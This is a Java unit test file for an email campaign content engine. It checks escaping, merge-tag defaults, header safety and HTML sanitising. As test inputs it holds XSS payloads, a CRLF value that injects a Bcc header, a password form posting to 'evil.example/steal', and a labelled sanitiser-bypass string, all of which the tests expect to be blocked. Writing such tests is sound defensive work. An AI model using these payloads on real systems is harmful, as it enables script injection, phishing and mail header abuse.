package org.optline.campaign;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.quicktheories.QuickTheory.qt;

import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.optline.platform.ValidationException;
import org.optline.test.Texts;

/** The content engine: escaping, defaults, missing fields, header safety, sanitising and text generation. */
class ContentEngineTest {

    private final ContentEngine engine = new ContentEngine();

    private CompiledContent.RenderedContent render(String subject, String html, String text, Map<String, String> values) {
        return engine.compile(new ContentEngine.Source(subject, html, text)).render(values);
    }

    @Test
    void valuesAreEscapedInHtmlAndPlainInText() {
        var out = render("Hi {{name}}", "<p>Hello {{name}}</p>", "Hello {{name}}", Map.of("name", "<b>Bob</b> & co"));
        assertThat(out.html()).contains("Hello &lt;b&gt;Bob&lt;/b&gt; &amp; co").doesNotContain("<b>Bob");
        assertThat(out.text()).isEqualTo("Hello <b>Bob</b> & co");
        assertThat(out.subject()).isEqualTo("Hi <b>Bob</b> & co");
    }

    @Test
    void missingFieldsAreEmptyAndDefaultsFillThem() {
        var out = render("Hi {{name|there}}", "<p>Dear {{name|friend}}, from {{city}}.</p>", null, Map.of());
        assertThat(out.subject()).isEqualTo("Hi there");
        assertThat(out.html()).contains("Dear friend, from .");
        assertThat(render("Hi {{name|there}}", "<p>x</p>", null, Map.of("name", "Ann")).subject()).isEqualTo("Hi Ann");
    }

    @Test
    void contentMayReadOnlyTheValuesItNamesInSubjectHtmlOrText() {
        var content = engine.compile(new ContentEngine.Source("For {{ name }}", "<p><a href=\"{{unsubscribe_url}}\">x</a></p>",
                "Manage: {{preferences_url}}"));
        assertThat(content.mayRead("name")).isTrue();
        assertThat(content.mayRead("unsubscribe_url")).isTrue();
        assertThat(content.mayRead("preferences_url")).isTrue();
        assertThat(content.mayRead("webview_url")).isFalse();
        // A generated text part names what the HTML names.
        assertThat(engine.compile(new ContentEngine.Source("s", "<p>{{webview_url}}</p>", null)).mayRead("webview_url")).isTrue();
    }

    @Test
    void thisWhichWouldPrintEveryValueIsRefusedInEveryForm() {
        for (var source : List.of(new ContentEngine.Source("s", "<p>{{this}}</p>", null),
                new ContentEngine.Source("Hi {{ this }}", "<p>x</p>", null),
                new ContentEngine.Source("s", "<p>x</p>", "{{this|you}}"),
                new ContentEngine.Source("s", "<p>{{#this}}x{{/this}}</p>", null))) {
            assertThatThrownBy(() -> engine.compile(source)).isInstanceOf(ValidationException.class).hasMessageContaining("{{this}}");
        }
    }

    @Test
    void theLinksAContentMayPrintAreTheOnesItsTemplatesName() {
        var footerOnly = MergeValues.Links.readBy(engine.compile(new ContentEngine.Source("s",
                "<p>x <a href=\"{{unsubscribe_url}}\">u</a> <a href=\"{{preferences_url}}\">p</a></p>", null)));
        assertThat(footerOnly).isEqualTo(new MergeValues.Links(true, true, false));
        var inText = MergeValues.Links.readBy(engine.compile(new ContentEngine.Source("s", "<p>x</p>", "Online: {{webview_url}}")));
        assertThat(inText).isEqualTo(new MergeValues.Links(false, false, true));
    }

    @Test
    void onlyAnUnsubscribeTagThatSurvivesSanitisingCountsAsTheContentsOwnLink() {
        assertThat(engine.keepsMergeTag("<p><a href=\"{{unsubscribe_url}}\">Leave</a></p>", "unsubscribe_url")).isTrue();
        assertThat(engine.keepsMergeTag("<p>Hi</p><!-- <a href=\"{{unsubscribe_url}}\">x</a> -->", "unsubscribe_url")).isFalse();
        assertThat(engine.keepsMergeTag("<p>Hi</p><script>var u = '{{unsubscribe_url}}';</script>", "unsubscribe_url")).isFalse();
    }

    @Test
    void aMergeValueCannotAddHeaders() {
        var out = render("Offer for {{name}}", "<p>x</p>", null, Map.of("name", "Eve\r\nBcc: victim@example.org"));
        assertThat(out.subject()).isEqualTo("Offer for Eve Bcc: victim@example.org").doesNotContain("\n").doesNotContain("\r");
    }

    @Test
    void unescapedOutputPartialsAndJunkTagsAreRefusedWithTheLine() {
        assertThatThrownBy(() -> engine.compile(new ContentEngine.Source("s", "<p>a</p>\n<p>{{{name}}}</p>", null)))
                .isInstanceOf(ValidationException.class).hasMessageContaining("line 2").hasMessageContaining("unescaped");
        assertThatThrownBy(() -> engine.compile(new ContentEngine.Source("s", "{{> header}}", null)))
                .isInstanceOf(ValidationException.class).hasMessageContaining("partials");
        assertThatThrownBy(() -> engine.compile(new ContentEngine.Source("s", "<p>\n\n{{ user.getClass }}</p>", null)))
                .isInstanceOf(ValidationException.class).hasMessageContaining("line 3");
        assertThatThrownBy(() -> engine.compile(new ContentEngine.Source("s", "<p>{{#vip}}VIP</p>", null)))
                .isInstanceOf(ValidationException.class).satisfies(e ->
                        assertThat(((ValidationException) e).errors().get(0).field()).isEqualTo("html"));
        assertThatThrownBy(() -> engine.compile(new ContentEngine.Source(" ", "<p>x</p>", null)))
                .isInstanceOf(ValidationException.class).hasMessageContaining("subject");
    }

    @Test
    void aMergeTagThatIsNeverClosedIsRefusedWithTheLine() {
        // Found by ContentSanitisingProperties: JMustache's parser failed with an index error here.
        assertThatThrownBy(() -> engine.compile(new ContentEngine.Source("s", "<p></p>\n{{zz|{{}</p></p></p>", null)))
                .isInstanceOf(ValidationException.class).hasMessageContaining("line 2").hasMessageContaining("not closed");
        assertThatThrownBy(() -> engine.compile(new ContentEngine.Source("Hi {{name", "<p>x</p>", null)))
                .isInstanceOf(ValidationException.class).hasMessageContaining("subject");
        assertThatThrownBy(() -> engine.compile(new ContentEngine.Source("s", "<p>{{name}} and {{</p>", "{{name}} and {{")))
                .isInstanceOf(ValidationException.class).hasMessageContaining("not closed");
        assertThat(engine.compile(new ContentEngine.Source("s", "<p>{{name}} }} done</p>", null)).sanitizedHtml()).contains("done");
    }

    @Test
    void theSanitiserKeepsMailHtmlAndMergeLinksButNotScripts() {
        String html = engine.compile(new ContentEngine.Source("s", """
                <script>alert(1)</script>
                <p onclick="steal()" style="color: red">Hi</p>
                <a href="javascript:alert(1)">bad</a>
                <a href="https://shop.example/sale">sale</a>
                <a href="mailto:help@shop.example">help</a>
                <a href="{{unsubscribe_url}}">Unsubscribe</a>
                <img src="https://shop.example/logo.png" alt="Logo" onerror="x()">
                <iframe src="https://evil.example"></iframe>
                <form action="https://evil.example"><input name="pw"></form>
                """, null)).sanitizedHtml();
        assertThat(html).doesNotContain("script", "onclick", "javascript:", "onerror", "iframe", "<form", "<input")
                .contains("https://shop.example/sale", "mailto:help&#64;shop.example", "href=\"{{unsubscribe_url}}\"",
                        "color:red", "alt=\"Logo\"");
    }

    /** The payload of the sanitiser bypass: a default holding {{ and markup, kept whole by the sanitiser's tag guard. */
    static final String BYPASS = "<p>Hi {{zz|{{<img src=x onerror=alert(1)><form action=https://evil.example/steal>"
            + "<input name=pw></form><script>alert(2)</script><iframe src=https://evil.example></iframe>"
            + "<a href=javascript:alert(3)>x</a>}}</p>";

    @Test
    void aDefaultHoldingMergeTagOpenersAndMarkupIsRefused() {
        assertThatThrownBy(() -> engine.compile(new ContentEngine.Source("s", BYPASS, null)))
                .isInstanceOf(ValidationException.class).hasMessageContaining("line 1").hasMessageContaining("{{");
        assertThatThrownBy(() -> engine.keepsMergeTag(BYPASS, "unsubscribe_url")).isInstanceOf(ValidationException.class);
    }

    @Test
    void aDefaultIsPlainTextInTheHtmlPart() {
        var out = render("Hi {{name|<b>you</b>}}", "<p>Dear {{name|<img src=x onerror=alert(1)> &amp; co}}</p>", null, Map.of());
        assertThat(out.html()).contains("Dear &lt;img src").contains("alert(1)&gt; &amp; co").doesNotContain("<img", "&amp;amp;");
        assertThat(out.subject()).isEqualTo("Hi <b>you</b>");
        assertThat(engine.sanitize("<p>{{name|a}b{c &amp; d}}</p>")).isEqualTo("<p>{{name|a}b{c &amp; d}}</p>");
        assertThat(render("s", "<p>{{name|a}b{c}}</p>", null, Map.of()).html()).isEqualTo("<p>a}b{c</p>");
    }

    @Test
    void aMergeValueCannotChooseALinksScheme() {
        assertThatThrownBy(() -> engine.compile(new ContentEngine.Source("s", "<p><a href=\"{{site}}\">x</a></p>", null)))
                .isInstanceOf(ValidationException.class).hasMessageContaining("{{site}}");
        assertThatThrownBy(() -> engine.compile(new ContentEngine.Source("s", "<p><a href=\"java{{rest}}\">x</a></p>", null)))
                .isInstanceOf(ValidationException.class);
        assertThatThrownBy(() -> engine.compile(new ContentEngine.Source("s", "<p><img src=\"{{picture}}\"></p>", null)))
                .isInstanceOf(ValidationException.class);
        var out = render("s", "<p><a href=\"https://shop.example/{{code}}\">a</a> <a href=\"{{webview_url}}\">b</a>"
                + " <a href=\"mailto:{{email}}\">c</a></p>", null, Map.of("code", "javascript:alert(1)", "webview_url",
                "https://optline.example/s/view/t", "email", "a@b.example"));
        assertThat(out.html()).contains("href=\"https://shop.example/javascript:alert(1)\"", "href=\"https://optline.example/s/view/t\"",
                "href=\"mailto:a@b.example\"");
    }

    @Test
    void aMergeTagCannotWriteStylesOrSpanAnAttribute() {
        assertThatThrownBy(() -> engine.compile(new ContentEngine.Source("s", "<p style=\"font-family: {{font}}\">x</p>", null)))
                .isInstanceOf(ValidationException.class).hasMessageContaining("style");
        assertThatThrownBy(() -> engine.compile(new ContentEngine.Source("s",
                "<p><a title=\"{{#vip}}\" href=\"https://x.example\">x</a>{{/vip}}\" onclick=\"alert(1)\"</p>", null)))
                .isInstanceOf(ValidationException.class);
        var out = render("s", "<p><a href=\"https://x.example\" title=\"{{#vip}}VIP {{/vip}}{{name|friend}}\">{{#vip}}<b>Hi</b>{{/vip}}</a></p>",
                null, Map.of());
        assertThat(out.html()).isEqualTo("<p><a href=\"https://x.example\" title=\"friend\"></a></p>");
    }

    @Test
    void commentsAreDroppedBeforeSanitising() {
        var content = engine.compile(new ContentEngine.Source("s", "<p>a{{! <script>alert(1)</script> }}b</p>", null));
        assertThat(content.sanitizedHtml()).isEqualTo("<p>ab</p>");
    }

    @Test
    void theTextPartIsReadable() {
        String text = engine.textFromHtml("""
                <h1>Spring sale</h1><p>Dear customer,<br>our <b>best</b> offers:</p>
                <ul><li>Shoes</li><li>Hats</li></ul>
                <p><a href="https://shop.example/sale">See the sale</a> or write to
                <a href="mailto:help@shop.example">help@shop.example</a>.</p>""");
        assertThat(text).contains("Spring sale\n===========")
                .contains("Dear customer,\nour best offers:")
                .contains("- Shoes\n- Hats")
                .contains("See the sale (https://shop.example/sale)")
                .contains("mailto:help@shop.example")
                .doesNotContain("<");
    }

    @Test
    void noMergeValueEverBecomesMarkup() {
        qt().withExamples(300).forAll(Texts.any()).checkAssert(value -> {
            var out = render("S {{v}}", "<p>{{v}}</p>", null, Map.of("v", value));
            assertThat(out.html()).startsWith("<p>").endsWith("</p>");
            assertThat(out.html().substring(3, out.html().length() - 4)).doesNotContain("<", ">", "\"");
            assertThat(out.subject()).doesNotContain("\n", "\r");
        });
    }
}
